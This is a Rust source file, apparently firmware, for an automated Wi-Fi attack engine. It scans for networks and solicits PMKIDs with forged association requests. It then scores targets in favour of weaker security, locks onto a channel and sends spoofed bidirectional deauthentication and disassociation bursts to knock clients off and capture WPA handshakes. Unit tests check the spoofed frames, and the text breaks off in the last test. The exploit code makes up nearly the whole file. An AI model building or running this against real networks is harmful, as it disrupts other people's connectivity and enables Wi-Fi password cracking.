//! Attack engine — target selection, coordinated deauthentication on a
//! locked channel, PMKID hunting, and the user's exclusion list.
//!
//! A superset of the passive capture engine: the same callback, rings,
//! collections, and save protocol, with an aggressive scheduler on top.
//! The current target is an arena index revalidated by BSSID on every
//! update — cleanup sweeps may move or evict it at any time.

use heapless::Vec;

use crate::capture::{
    pop_client_sighting, rx_on_frame, save_with_scanner_paused, set_client_watch, CaptureCore,
    MoodEvent, MoodHook,
};
use crate::exclusion::ExclusionList;
use crate::frame::{self, AuthMode, Ssid};
use crate::platform::{Delay, Radio, Storage};
use crate::policy::{self, Tunables};
use crate::recon::{self, DetectedNetwork, Scanner};
use crate::writer::CaptureSink;

const BROADCAST: [u8; 6] = [0xFF; 6];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackState {
    /// Channel-hop and admit networks.
    Scanning,
    /// Walk eligible networks soliciting M1-with-PMKID.
    PmkidHunting,
    /// Pick the next target by score.
    NextTarget,
    /// Camp on the target's channel watching for clients.
    Locking,
    /// Timed deauth bursts until handshake or timeout.
    Attacking,
    /// Hold the channel for late M3/M4.
    Waiting,
    /// Nothing eligible — slow sweep until the retry timer.
    Bored,
}

/// A station seen talking to the target.
#[derive(Debug, Clone, Copy)]
struct ClientRecord {
    mac: [u8; 6],
    last_seen: u32,
}

pub struct AttackEngine {
    core: CaptureCore,
    exclusions: ExclusionList,
    t: Tunables,

    state: AttackState,
    running: bool,
    started_ms: u32,
    state_entered_ms: u32,

    consecutive_failed_scans: u8,
    consecutive_no_target: u8,

    target_bssid: Option<[u8; 6]>,
    target_index: Option<usize>,
    target_channel: u8,
    target_ssid: Ssid,
    target_rssi: f32,
    clients: Vec<ClientRecord, { policy::MAX_CLIENTS }>,
    last_burst_ms: u32,

    hunt_deadline_ms: u32,
    hunt_target: Option<[u8; 6]>,
    hunt_visited: Vec<[u8; 6], { policy::MAX_NETWORKS }>,

    waiting_extensions: u8,
    saved_hop_interval_ms: u32,

    prng: u32,
    mood_hook: Option<MoodHook>,
}

impl AttackEngine {
    pub fn new(tunables: Tunables) -> Self {
        Self {
            core: CaptureCore::new(),
            exclusions: ExclusionList::new(),
            t: tunables,
            state: AttackState::Scanning,
            running: false,
            started_ms: 0,
            state_entered_ms: 0,
            consecutive_failed_scans: 0,
            consecutive_no_target: 0,
            target_bssid: None,
            target_index: None,
            target_channel: 0,
            target_ssid: Ssid::new(),
            target_rssi: -90.0,
            clients: Vec::new(),
            last_burst_ms: 0,
            hunt_deadline_ms: 0,
            hunt_target: None,
            hunt_visited: Vec::new(),
            waiting_extensions: 0,
            saved_hop_interval_ms: policy::DEFAULT_HOP_INTERVAL_MS,
            prng: 0x2545_F491,
            mood_hook: None,
        }
    }

    pub fn state(&self) -> AttackState {
        self.state
    }

    pub fn is_running(&self) -> bool {
        self.running
    }

    pub fn core(&self) -> &CaptureCore {
        &self.core
    }

    pub fn exclusions(&self) -> &ExclusionList {
        &self.exclusions
    }

    pub fn target_index(&self) -> Option<usize> {
        self.target_index
    }

    pub fn target_bssid(&self) -> Option<[u8; 6]> {
        self.target_bssid
    }

    pub fn set_mood_hook(&mut self, hook: Option<MoodHook>) {
        self.mood_hook = hook;
    }

    /// Exclude a network at runtime; an attack in progress against it
    /// aborts cleanly on the next update.
    pub fn exclude(&mut self, storage: &mut impl Storage, bssid: &[u8; 6], ssid: &str) -> bool {
        let added = self.exclusions.add(bssid, ssid);
        if added {
            let _ = self.exclusions.save(storage);
        }
        added
    }

    pub fn start(
        &mut self,
        scanner: &mut Scanner,
        radio: &mut impl Radio,
        storage: &mut impl Storage,
        now_ms: u32,
    ) {
        if self.running {
            return;
        }
        log::info!("attack: starting");
        let _ = self.exclusions.load(storage);
        if !recon::is_running() {
            scanner.start(radio, now_ms);
        }
        self.core.activate(now_ms);
        recon::set_packet_callback(Some(rx_on_frame));

        self.prng = now_ms | 1;
        self.started_ms = now_ms;
        self.consecutive_failed_scans = 0;
        self.consecutive_no_target = 0;
        self.saved_hop_interval_ms = recon::hop_interval_ms();
        self.clear_target(scanner);
        self.enter(AttackState::Scanning, now_ms);
        self.running = true;
    }

    pub fn stop(
        &mut self,
        scanner: &mut Scanner,
        radio: &mut impl Radio,
        sink: &mut impl CaptureSink,
        delay: &mut impl Delay,
        now_ms: u32,
    ) {
        if !self.running {
            return;
        }
        log::info!("attack: stopping");
        self.running = false;
        recon::set_packet_callback(None);
        self.clear_target(scanner);
        if recon::is_channel_locked() {
            scanner.unlock_channel();
        }
        scanner.set_hop_interval_ms(self.saved_hop_interval_ms);

        self.core.drain(now_ms, true);
        save_with_scanner_paused(&mut self.core, scanner, radio, sink, delay, now_ms);
        self.core.deactivate();
    }

    pub fn update(
        &mut self,
        scanner: &mut Scanner,
        radio: &mut impl Radio,
        sink: &mut impl CaptureSink,
        delay: &mut impl Delay,
        now_ms: u32,
    ) {
        if !self.running {
            return;
        }
        crate::capture::set_drain_busy(true);

        self.rebind_target(scanner, now_ms);

        let outcome = self.core.drain(now_ms, true);
        let mut immediate_save = false;
        if outcome.pmkid_captured.is_some() {
            self.emit(&MoodEvent::PmkidCaptured);
            immediate_save = true;
        }
        if outcome.handshake_captured.is_some() {
            self.emit(&MoodEvent::HandshakeCaptured);
            immediate_save = true;
        }

        match self.state {
            AttackState::Scanning => self.update_scanning(scanner, now_ms),
            AttackState::PmkidHunting => self.update_pmkid_hunting(scanner, radio, now_ms),
            AttackState::NextTarget => self.update_next_target(scanner, radio, now_ms),
            AttackState::Locking => self.update_locking(scanner, now_ms),
            AttackState::Attacking => self.update_attacking(scanner, radio, delay, now_ms),
            AttackState::Waiting => self.update_waiting(scanner, now_ms),
            AttackState::Bored => self.update_bored(scanner, now_ms),
        }

        let backup_due = self.core.maintain(now_ms);
        if immediate_save || backup_due {
            save_with_scanner_paused(&mut self.core, scanner, radio, sink, delay, now_ms);
        }
        crate::capture::set_drain_busy(false);
    }

    fn emit(&self, event: &MoodEvent) {
        if let Some(hook) = self.mood_hook {
            hook(event);
        }
    }

    fn enter(&mut self, state: AttackState, now_ms: u32) {
        self.state = state;
        self.state_entered_ms = now_ms;
    }

    fn in_state_ms(&self, now_ms: u32) -> u32 {
        now_ms.wrapping_sub(self.state_entered_ms)
    }

    /// Re-resolve the target index by BSSID; cleanup may have moved or
    /// evicted it, and the user may have excluded it mid-attack.
    fn rebind_target(&mut self, scanner: &mut Scanner, now_ms: u32) {
        let Some(bssid) = self.target_bssid else {
            return;
        };
        if self.exclusions.contains(&bssid) {
            log::info!("attack: target excluded mid-attack, aborting");
            self.clear_target(scanner);
            if recon::is_channel_locked() {
                scanner.unlock_channel();
            }
            self.enter(AttackState::NextTarget, now_ms);
            return;
        }
        self.target_index = recon::find_network_index(&bssid);
        if self.target_index.is_none()
            && matches!(
                self.state,
                AttackState::Locking | AttackState::Attacking | AttackState::Waiting
            )
        {
            log::info!("attack: target evicted, moving on");
            self.clear_target(scanner);
            if recon::is_channel_locked() {
                scanner.unlock_channel();
            }
            self.enter(AttackState::NextTarget, now_ms);
        }
    }

    fn clear_target(&mut self, _scanner: &mut Scanner) {
        self.target_bssid = None;
        self.target_index = None;
        self.target_ssid.clear();
        self.clients.clear();
        set_client_watch(None);
        recon::set_protected_bssid(None);
    }

    // ── SCANNING ──────────────────────────────────────────────────────

    fn update_scanning(&mut self, scanner: &mut Scanner, now_ms: u32) {
        if recon::is_channel_locked() {
            scanner.unlock_channel();
        }
        if self.in_state_ms(now_ms) < policy::SCAN_TIME_MS {
            return;
        }
        if recon::network_count() == 0 {
            self.consecutive_failed_scans += 1;
            log::info!(
                "attack: empty scan cycle ({}/{})",
                self.consecutive_failed_scans,
                policy::MAX_FAILED_SCANS
            );
            if self.consecutive_failed_scans >= policy::MAX_FAILED_SCANS {
                self.enter_bored(scanner, now_ms);
            } else {
                self.enter(AttackState::Scanning, now_ms);
            }
            return;
        }
        self.consecutive_failed_scans = 0;
        self.hunt_visited.clear();
        self.hunt_target = None;
        self.enter(AttackState::PmkidHunting, now_ms);
    }

    // ── PMKID_HUNTING ─────────────────────────────────────────────────

    fn pmkid_hunt_candidate(&self) -> Option<([u8; 6], u8, Ssid)> {
        let mut found: Option<([u8; 6], u8, Ssid)> = None;
        recon::with_networks(|nets| {
            for net in nets.iter() {
                if self.hunt_visited.iter().any(|v| *v == net.bssid) {
                    continue;
                }
                if net.ssid.is_empty()
                    || net.auth == AuthMode::Open
                    || net.auth == AuthMode::Wep
                    || net.pmf_required
                    || self.exclusions.contains(&net.bssid)
                    || self.core.pmkids.iter().any(|p| p.bssid == net.bssid)
                {
                    continue;
                }
                found = Some((net.bssid, net.channel, net.ssid.clone()));
                break;
            }
        });
        found
    }

    fn update_pmkid_hunting(
        &mut self,
        scanner: &mut Scanner,
        radio: &mut impl Radio,
        now_ms: u32,
    ) {
        if self.in_state_ms(now_ms) > policy::PMKID_HUNT_TOTAL_MS {
            self.hunt_target = None;
            self.enter(AttackState::NextTarget, now_ms);
            return;
        }

        if let Some(bssid) = self.hunt_target {
            let answered = self.core.pmkids.iter().any(|p| p.bssid == bssid);
            if !answered && now_ms < self.hunt_deadline_ms {
                return;
            }
            self.hunt_target = None;
        }

        let Some((bssid, channel, ssid)) = self.pmkid_hunt_candidate() else {
            scanner.unlock_channel();
            self.enter(AttackState::NextTarget, now_ms);
            return;
        };

        let _ = self.hunt_visited.push(bssid);
        scanner.lock_channel(radio, channel);
        let mut buf = [0u8; 128];
        let len = frame::build_assoc_request(&mut buf, &bssid, &radio.mac(), ssid.as_str());
        if radio.transmit_raw(&buf[..len]).is_err() {
            log::warn!("attack: assoc tx failed on channel {}", channel);
        }
        self.hunt_target = Some(bssid);
        self.hunt_deadline_ms = now_ms + policy::PMKID_TIMEOUT_MS;
    }

    // ── NEXT_TARGET ───────────────────────────────────────────────────

    fn warmup_allows_selection(&self, now_ms: u32) -> bool {
        let since_start = now_ms.wrapping_sub(self.started_ms);
        if since_start < policy::TARGET_WARMUP_MIN_MS {
            return false;
        }
        // Between the floor and the forced threshold, require some RF
        // coverage before committing to a target
        since_start >= policy::TARGET_WARMUP_FORCE_MS || recon::packet_count() > 0
    }

    fn is_eligible(&self, net: &DetectedNetwork, now_ms: u32) -> bool {
        !net.ssid.is_empty()
            && !net.pmf_required
            && !net.has_handshake
            && net.auth != AuthMode::Open
            && net.attack_attempts < self.t.attack_target_max_attempts
            && net.rssi_ema >= policy::ATTACK_MIN_RSSI as f32
            && (net.cooldown_until == 0 || net.cooldown_until <= now_ms)
            && !self.exclusions.contains(&net.bssid)
    }

    fn score(&self, net: &DetectedNetwork, now_ms: u32) -> i32 {
        let mut score = 0i32;

        // Quality: RSSI normalized 0-60 across -90..-30 dBm
        let rssi = net.rssi_ema.clamp(-90.0, -30.0);
        score += ((rssi + 90.0) as i32).clamp(0, 60);

        // Recency 0-20 over the last 20s
        let age = now_ms.wrapping_sub(net.last_seen).min(20_000);
        score += (20 - age / 1_000) as i32;

        // Recent data 0-20 over the last 20s
        if net.last_data_seen != 0 {
            let data_age = now_ms.wrapping_sub(net.last_data_seen);
            if data_age < 20_000 {
                score += (20 - data_age / 1_000) as i32;
            }
        }

        // Beacon cadence 0-10: a steady beat means a healthy AP
        if (50.0..=400.0).contains(&net.beacon_interval_ema_ms) {
            score += 10;
        } else if net.beacon_count > 4 {
            score += 5;
        }

        // Proximity bonus at very strong signal
        if net.rssi_ema > -45.0 {
            score += 15;
        }

        // Recent-client bonus 0-30
        if net.last_data_seen != 0 {
            let data_age = now_ms.wrapping_sub(net.last_data_seen);
            if data_age < policy::CLIENT_FRESH_MS {
                score += (30 - 3 * (data_age / 1_000) as i32).max(0);
            }
        }

        score += 5 * recon::estimate_client_count(net, now_ms) as i32;

        score += match net.auth {
            AuthMode::Wep => 15,
            AuthMode::WpaPsk => 10,
            AuthMode::Wpa2Psk => 0,
            AuthMode::Wpa2Wpa3Psk | AuthMode::Wpa3Psk => -10,
            AuthMode::Open => 0,
        };

        score -= 8 * net.attack_attempts as i32;
        score
    }

    fn select_target(&self, now_ms: u32) -> Option<([u8; 6], u8, Ssid, f32)> {
        if !self.warmup_allows_selection(now_ms) {
            return None;
        }
        let mut best: Option<([u8; 6], u8, Ssid, f32, i32, bool)> = None;
        recon::with_networks(|nets| {
            for net in nets.iter() {
                if !self.is_eligible(net, now_ms) {
                    continue;
                }
                let s = self.score(net, now_ms);
                let fresh_client = net.last_data_seen != 0
                    && now_ms.wrapping_sub(net.last_data_seen) < policy::CLIENT_FRESH_MS;
                let better = match &best {
                    None => true,
                    // A live client beats a higher-scoring stale candidate
                    Some((.., best_score, best_fresh)) => {
                        (fresh_client, s) > (*best_fresh, *best_score)
                    }
                };
                if better {
                    best = Some((
                        net.bssid,
                        net.channel,
                        net.ssid.clone(),
                        net.rssi_ema,
                        s,
                        fresh_client,
                    ));
                }
            }
        });
        best.map(|(bssid, ch, ssid, rssi, _, _)| (bssid, ch, ssid, rssi))
    }

    fn update_next_target(&mut self, scanner: &mut Scanner, radio: &mut impl Radio, now_ms: u32) {
        match self.select_target(now_ms) {
            Some((bssid, channel, ssid, rssi)) => {
                log::info!(
                    "attack: target {} on channel {}",
                    ssid.as_str(),
                    channel
                );
                self.consecutive_no_target = 0;
                self.target_bssid = Some(bssid);
                self.target_index = recon::find_network_index(&bssid);
                self.target_channel = channel;
                self.target_ssid = ssid;
                self.target_rssi = rssi;
                self.clients.clear();
                recon::set_protected_bssid(Some(bssid));
                set_client_watch(Some(bssid));
                scanner.lock_channel(radio, channel);
                self.enter(AttackState::Locking, now_ms);
            }
            None => {
                self.consecutive_no_target += 1;
                if recon::network_count() > 0
                    && self.consecutive_no_target >= policy::MAX_FAILED_SCANS
                {
                    self.enter_bored(scanner, now_ms);
                } else {
                    if recon::is_channel_locked() {
                        scanner.unlock_channel();
                    }
                    self.enter(AttackState::Scanning, now_ms);
                }
            }
        }
    }

    // ── LOCKING ───────────────────────────────────────────────────────

    fn note_clients(&mut self, now_ms: u32) {
        while let Some(sighting) = pop_client_sighting() {
            if let Some(c) = self.clients.iter_mut().find(|c| c.mac == sighting.mac) {
                c.last_seen = sighting.seen_ms;
                continue;
            }
            let _ = self.clients.push(ClientRecord {
                mac: sighting.mac,
                last_seen: sighting.seen_ms,
            });
        }
        // Age out silent clients
        let mut i = 0;
        while i < self.clients.len() {
            if now_ms.wrapping_sub(self.clients[i].last_seen) > 30_000 {
                self.clients.swap_remove(i);
            } else {
                i += 1;
            }
        }
    }

    fn fresh_client_seen(&self, now_ms: u32) -> bool {
        self.clients
            .iter()
            .any(|c| now_ms.wrapping_sub(c.last_seen) < policy::CLIENT_FRESH_MS)
    }

    fn update_locking(&mut self, scanner: &mut Scanner, now_ms: u32) {
        self.note_clients(now_ms);
        let elapsed = self.in_state_ms(now_ms);

        if elapsed >= policy::LOCK_FAST_TRACK_MS && self.fresh_client_seen(now_ms) {
            self.begin_attack(now_ms);
            return;
        }
        if elapsed >= policy::LOCK_EARLY_EXIT_MS && self.clients.is_empty() {
            // Nobody home — brief cooldown so selection moves on
            if let Some(bssid) = self.target_bssid {
                recon::with_networks(|nets| {
                    if let Some(net) = nets.iter_mut().find(|n| n.bssid == bssid) {
                        net.cooldown_until = now_ms + policy::COOLDOWN_MIN_MS;
                    }
                });
            }
            self.clear_target(scanner);
            scanner.unlock_channel();
            self.enter(AttackState::NextTarget, now_ms);
            return;
        }
        if elapsed >= policy::LOCK_TIME_MS {
            self.begin_attack(now_ms);
        }
    }

    fn begin_attack(&mut self, now_ms: u32) {
        if let Some(bssid) = self.target_bssid {
            recon::with_networks(|nets| {
                if let Some(net) = nets.iter_mut().find(|n| n.bssid == bssid) {
                    net.attack_attempts = net.attack_attempts.saturating_add(1);
                }
            });
        }
        self.last_burst_ms = 0;
        self.enter(AttackState::Attacking, now_ms);
    }

    // ── ATTACKING ─────────────────────────────────────────────────────

    fn target_handshake_complete(&self) -> bool {
        let Some(bssid) = self.target_bssid else {
            return false;
        };
        self.core
            .handshakes
            .iter()
            .any(|h| h.bssid == bssid && h.has_valid_pair())
    }

    fn update_attacking(
        &mut self,
        scanner: &mut Scanner,
        radio: &mut impl Radio,
        delay: &mut impl Delay,
        now_ms: u32,
    ) {
        self.note_clients(now_ms);

        if self.target_handshake_complete() {
            log::info!("attack: handshake complete for {}", self.target_ssid.as_str());
            self.clear_target(scanner);
            scanner.unlock_channel();
            self.enter(AttackState::NextTarget, now_ms);
            return;
        }

        if self.in_state_ms(now_ms) >= self.t.attack_timeout_ms {
            // Strong signals retry sooner
            if let Some(bssid) = self.target_bssid {
                let cooldown = cooldown_for_rssi(self.target_rssi);
                recon::with_networks(|nets| {
                    if let Some(net) = nets.iter_mut().find(|n| n.bssid == bssid) {
                        net.cooldown_until = now_ms + cooldown;
                    }
                });
            }
            self.waiting_extensions = 0;
            self.enter(AttackState::Waiting, now_ms);
            return;
        }

        if self.last_burst_ms != 0
            && now_ms.wrapping_sub(self.last_burst_ms) < self.t.attack_deauth_interval_ms
        {
            return;
        }
        self.last_burst_ms = now_ms;

        let Some(bssid) = self.target_bssid else {
            return;
        };
        if self.clients.is_empty() {
            self.send_burst(radio, delay, &bssid, &BROADCAST);
        } else {
            for i in 0..self.clients.len() {
                let mac = self.clients[i].mac;
                self.send_burst(radio, delay, &bssid, &mac);
            }
        }
    }

    /// Bidirectional deauth burst plus a disassociation. Broadcast
    /// targets only get the AP→all direction.
    fn send_burst(&mut self, radio: &mut impl Radio, delay: &mut impl Delay, ap: &[u8; 6], client: &[u8; 6]) {
        let broadcast = *client == BROADCAST;
        let mut buf = [0u8; frame::DEAUTH_FRAME_LEN];
        for i in 0..policy::DEAUTH_BURST_FRAMES {
            let (dest, src) = if broadcast || i % 2 == 0 {
                (client, ap)
            } else {
                (ap, client)
            };
            frame::build_deauth(&mut buf, dest, src, ap, frame::REASON_CLASS3_FRAME);
            if radio.transmit_raw(&buf).is_err() {
                return;
            }
            delay.delay_ms(1 + self.next_rand() % policy::DEAUTH_JITTER_MAX_MS);
        }
        frame::build_disassoc(&mut buf, client, ap, ap, frame::REASON_CLASS3_FRAME);
        let _ = radio.transmit_raw(&buf);
    }

    fn next_rand(&mut self) -> u32 {
        // xorshift32 — burst de-synchronization, nothing more
        let mut x = self.prng;
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        self.prng = x;
        x
    }

    // ── WAITING ───────────────────────────────────────────────────────

    fn update_waiting(&mut self, scanner: &mut Scanner, now_ms: u32) {
        if self.target_handshake_complete() {
            self.clear_target(scanner);
            scanner.unlock_channel();
            self.enter(AttackState::NextTarget, now_ms);
            return;
        }
        if self.in_state_ms(now_ms) < self.t.attack_wait_ms {
            return;
        }
        // An M1 without M2 means the exchange is mid-flight: extend,
        // at most twice
        let m1_without_m2 = self.target_bssid.is_some_and(|bssid| {
            self.core
                .handshakes
                .iter()
                .any(|h| h.bssid == bssid && h.captured_mask & 0b0001 != 0 && h.captured_mask & 0b0010 == 0)
        });
        if m1_without_m2 && self.waiting_extensions < 2 {
            self.waiting_extensions += 1;
            self.enter(AttackState::Waiting, now_ms);
            return;
        }
        self.clear_target(scanner);
        scanner.unlock_channel();
        self.enter(AttackState::NextTarget, now_ms);
    }

    // ── BORED ─────────────────────────────────────────────────────────

    fn enter_bored(&mut self, scanner: &mut Scanner, now_ms: u32) {
        let networks = recon::network_count();
        log::info!("attack: bored, networks={}", networks);
        self.clear_target(scanner);
        if recon::is_channel_locked() {
            scanner.unlock_channel();
        }
        let strong_present = recon::with_networks(|nets| {
            nets.iter().any(|n| n.rssi_ema >= policy::ATTACK_MIN_RSSI as f32)
        });
        let interval = if networks == 0 || !strong_present {
            policy::BORED_HOP_FAST_MS
        } else {
            policy::BORED_HOP_SLOW_MS
        };
        scanner.set_hop_interval_ms(interval);
        self.emit(&MoodEvent::Bored {
            networks: networks as u16,
        });
        self.enter(AttackState::Bored, now_ms);
    }

    fn update_bored(&mut self, scanner: &mut Scanner, now_ms: u32) {
        if self.in_state_ms(now_ms) >= self.t.attack_bored_retry_ms {
            scanner.set_hop_interval_ms(self.saved_hop_interval_ms);
            self.consecutive_failed_scans = 0;
            self.consecutive_no_target = 0;
            self.enter(AttackState::Scanning, now_ms);
        }
    }

    #[cfg(test)]
    pub(crate) fn test_force_target(
        &mut self,
        state: AttackState,
        bssid: [u8; 6],
        channel: u8,
        now_ms: u32,
    ) {
        self.target_bssid = Some(bssid);
        self.target_index = recon::find_network_index(&bssid);
        self.target_channel = channel;
        self.target_rssi = -50.0;
        recon::set_protected_bssid(Some(bssid));
        set_client_watch(Some(bssid));
        self.enter(state, now_ms);
    }
}

/// 4-12s post-timeout cooldown, shorter for stronger signals.
fn cooldown_for_rssi(rssi_ema: f32) -> u32 {
    let rssi = rssi_ema.clamp(-80.0, -30.0);
    let span = (policy::COOLDOWN_MAX_MS - policy::COOLDOWN_MIN_MS) as f32;
    policy::COOLDOWN_MIN_MS + (span * ((-30.0 - rssi) / 50.0)) as u32
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::heap::PressureLevel;
    use crate::testkit::{
        make_beacon, make_data_frame, make_eapol_frame, serial, BeaconOpts, EapolOpts, FakeRadio,
        MemStorage, NoDelay,
    };
    use crate::writer::NoopSink;

    const AP: [u8; 6] = [0xAA, 0xAA, 0xAA, 0xAA, 0xAA, 0xAA];
    const AP2: [u8; 6] = [0xBB, 0xBB, 0xBB, 0xBB, 0xBB, 0xBB];
    const STA: [u8; 6] = [0xDD, 0xEE, 0xFF, 0x44, 0x55, 0x66];

    struct Rig {
        engine: AttackEngine,
        scanner: Scanner,
        radio: FakeRadio,
        sink: NoopSink,
        delay: NoDelay,
        storage: MemStorage,
    }

    fn rig() -> Rig {
        crate::recon::reset_for_test();
        crate::capture::reset_statics_for_test();
        crate::heap::test_set_cached(200_000, 150_000, PressureLevel::Normal);
        let mut r = Rig {
            engine: AttackEngine::new(Tunables::default()),
            scanner: Scanner::new(),
            radio: FakeRadio::new(),
            sink: NoopSink::new(),
            delay: NoDelay::new(),
            storage: MemStorage::new(),
        };
        r.engine
            .start(&mut r.scanner, &mut r.radio, &mut r.storage, 0);
        r
    }

    fn tick(r: &mut Rig, now: u32) {
        r.engine.update(
            &mut r.scanner,
            &mut r.radio,
            &mut r.sink,
            &mut r.delay,
            now,
        );
    }

    fn add_network(bssid: [u8; 6], ssid: &str, channel: u8, rssi: i8, now: u32) {
        let beacon = make_beacon(&BeaconOpts {
            bssid,
            ssid,
            channel: Some(channel),
            rsn: Some((true, false, false)),
            ..Default::default()
        });
        crate::recon::on_promiscuous_frame(&beacon, rssi, channel, now);
    }

    fn add_pmf_network(bssid: [u8; 6], ssid: &str, channel: u8, now: u32) {
        let beacon = make_beacon(&BeaconOpts {
            bssid,
            ssid,
            channel: Some(channel),
            rsn: Some((false, true, true)),
            ..Default::default()
        });
        crate::recon::on_promiscuous_frame(&beacon, -40, channel, now);
    }

    // ── Scanning → hunting → target flow ───────────────────────────

    #[test]
    fn scan_to_attack_pipeline() {
        let _g = serial();
        let mut r = rig();
        add_network(AP, "victim", 6, -45, 1_000);
        // Client traffic makes it attractive and fast-tracks locking
        let data = make_data_frame(&AP, &STA);
        crate::recon::on_promiscuous_frame(&data, -50, 6, 4_000);

        // SCANNING expires into PMKID_HUNTING
        tick(&mut r, 5_100);
        assert_eq!(r.engine.state(), AttackState::PmkidHunting);

        // Hunting sends one assoc request on the locked channel
        tick(&mut r, 5_200);
        assert_eq!(r.radio.channel(), 6);
        let assoc_sent = r
            .radio
            .transmitted()
            .iter()
            .any(|f| f[0] == 0x00 && f[4..10] == AP);
        assert!(assoc_sent);

        // No M1 answer: timeout advances, no more candidates -> NEXT_TARGET
        tick(&mut r, 5_600);
        assert_eq!(r.engine.state(), AttackState::NextTarget);

        // Selection locks the target channel and starts LOCKING
        tick(&mut r, 5_700);
        assert_eq!(r.engine.state(), AttackState::Locking);
        assert_eq!(r.engine.target_bssid(), Some(AP));
        assert!(crate::recon::is_channel_locked());

        // A client appears; fast-track fires after 2.5s in LOCKING
        let data = make_data_frame(&AP, &STA);
        crate::recon::on_promiscuous_frame(&data, -50, 6, 8_000);
        tick(&mut r, 8_300);
        assert_eq!(r.engine.state(), AttackState::Attacking);

        // First attacking tick sends a per-client bidirectional burst
        r.radio.clear_log();
        tick(&mut r, 8_400);
        let tx = r.radio.transmitted();
        assert!(tx.len() >= policy::DEAUTH_BURST_FRAMES as usize + 1);
        // Deauth to the client, spoofed from the AP
        assert_eq!(tx[0][0], 0xC0);
        assert_eq!(&tx[0][4..10], &STA);
        assert_eq!(&tx[0][10..16], &AP);
        // Reverse direction in the same burst
        assert_eq!(&tx[1][4..10], &AP);
        assert_eq!(&tx[1][10..16], &STA);
        // Disassoc closes the burst
        assert_eq!(tx.last().unwrap()[0], 0xA0);
        // Attempt counter bumped on the table entry
        crate::recon::with_networks(|nets| {
            assert_eq!(nets[0].attack_attempts, 1);
        });
    }

    #[test]
    fn broadcast_burst_without_clients() {
        let _g = serial();
        let mut r = rig();
        add_network(AP, "victim", 6, -45, 1_000);
        r.engine
            .test_force_target(AttackState::Attacking, AP, 6, 10_000);
        r.radio.clear_log();
        tick(&mut r, 10_100);
        let tx = r.radio.transmitted();
        assert!(!tx.is_empty());
        for f in &tx[..policy::DEAUTH_BURST_FRAMES as usize] {
            assert_eq!(&f[4..10], &[0xFF; 6]);
            assert_eq!(&f[10..16], &AP);
        }
    }

    #[test]
    fn attack_times_out_into_waiting_with_cooldown() {
        let _g = serial();
        let mut r = rig();
        add_network(AP, "victim", 6, -45, 1_000);
        r.engine
            .test_force_target(AttackState::Attacking, AP, 6, 10_000);
        tick(&mut r, 10_000 + policy::ATTACK_TIMEOUT_MS + 1);
        assert_eq!(r.engine.state(), AttackState::Waiting);
        crate::recon::with_networks(|nets| {
            let cd = nets[0].cooldown_until;
            let now = 10_000 + policy::ATTACK_TIMEOUT_MS + 1;
            assert!(cd > now + policy::COOLDOWN_MIN_MS - 1_000);
            assert!(cd <= now + policy::COOLDOWN_MAX_MS);
        });

        // WAITING expires into NEXT_TARGET with the lock released
        let later = 10_000 + policy::ATTACK_TIMEOUT_MS + 1 + policy::ATTACK_WAIT_MS + 100;
        tick(&mut r, later);
        assert_eq!(r.engine.state(), AttackState::NextTarget);
        assert!(!crate::recon::is_channel_locked());
    }

    #[test]
    fn attack_stops_on_handshake_capture() {
        let _g = serial();
        let mut r = rig();
        add_network(AP, "victim", 6, -45, 1_000);
        r.engine
            .test_force_target(AttackState::Attacking, AP, 6, 10_000);

        // The station reconnects and the exchange lands M1+M2
        let m1 = make_eapol_frame(&EapolOpts {
            ap: AP,
            station: STA,
            message: 1,
            ..Default::default()
        });
        let m2 = make_eapol_frame(&EapolOpts {
            ap: AP,
            station: STA,
            message: 2,
            ..Default::default()
        });
        crate::recon::on_promiscuous_frame(&m1, -50, 6, 10_050);
        crate::recon::on_promiscuous_frame(&m2, -60, 6, 10_060);

        tick(&mut r, 10_100);
        assert_eq!(r.engine.state(), AttackState::NextTarget);
        assert!(r.engine.target_bssid().is_none());
        crate::recon::with_networks(|nets| assert!(nets[0].has_handshake));
    }

    // ── S5: rebind after cleanup ────────────────────────────────────

    #[test]
    fn s5_rebinds_target_after_cleanup_eviction() {
        let _g = serial();
        let mut r = rig();
        add_network(AP2, "other", 1, -60, 1_000);
        add_network(AP, "victim", 6, -45, 1_000);
        r.engine
            .test_force_target(AttackState::Attacking, AP, 6, 10_000);
        assert_eq!(r.engine.target_index(), Some(1));

        // Cleanup evicts the other network; ours moves to index 0
        crate::recon::with_networks(|nets| {
            nets.swap_remove(0);
        });
        r.radio.clear_log();
        tick(&mut r, 10_100);
        assert_eq!(r.engine.target_index(), Some(0));
        assert_eq!(r.engine.state(), AttackState::Attacking);
        // Every transmitted frame still carries the right BSSID
        for f in r.radio.transmitted() {
            assert_eq!(&f[16..22], &AP);
        }
    }

    #[test]
    fn target_eviction_moves_to_next_target() {
        let _g = serial();
        let mut r = rig();
        add_network(AP, "victim", 6, -45, 1_000);
        r.engine
            .test_force_target(AttackState::Attacking, AP, 6, 10_000);
        crate::recon::with_networks(|nets| nets.clear());
        tick(&mut r, 10_100);
        assert_eq!(r.engine.state(), AttackState::NextTarget);
        assert!(r.engine.target_bssid().is_none());
        assert!(!crate::recon::is_channel_locked());
    }

    // ── Eligibility ─────────────────────────────────────────────────

    #[test]
    fn pmf_networks_are_never_selected() {
        let _g = serial();
        let mut r = rig();
        add_pmf_network(AP, "fortress", 6, 1_000);
        tick(&mut r, 6_000); // SCANNING -> PMKID_HUNTING
        // PMF is ineligible for hunting too: straight to NEXT_TARGET
        tick(&mut r, 6_100);
        assert_eq!(r.engine.state(), AttackState::NextTarget);
        tick(&mut r, 6_200);
        assert!(r.engine.target_bssid().is_none());
        assert!(r.radio.transmitted().is_empty());
    }

    #[test]
    fn excluded_networks_filtered_from_hunt_and_selection() {
        let _g = serial();
        let mut r = rig();
        r.engine
            .exclude(&mut r.storage, &AP, "home")
            .then_some(())
            .unwrap();
        add_network(AP, "home", 6, -40, 1_000);
        tick(&mut r, 6_000);
        tick(&mut r, 6_100);
        tick(&mut r, 6_200);
        assert!(r.engine.target_bssid().is_none());
        assert!(r.radio.transmitted().is_empty());
    }

    #[test]
    fn mid_attack_exclusion_aborts_cleanly() {
        let _g = serial();
        let mut r = rig();
        add_network(AP, "victim", 6, -45, 1_000);
        r.engine
            .test_force_target(AttackState::Attacking, AP, 6, 10_000);
        r.engine.exclude(&mut r.storage, &AP, "victim");
        r.radio.clear_log();
        tick(&mut r, 10_100);
        assert_eq!(r.engine.state(), AttackState::NextTarget);
        assert!(r.engine.target_bssid().is_none());
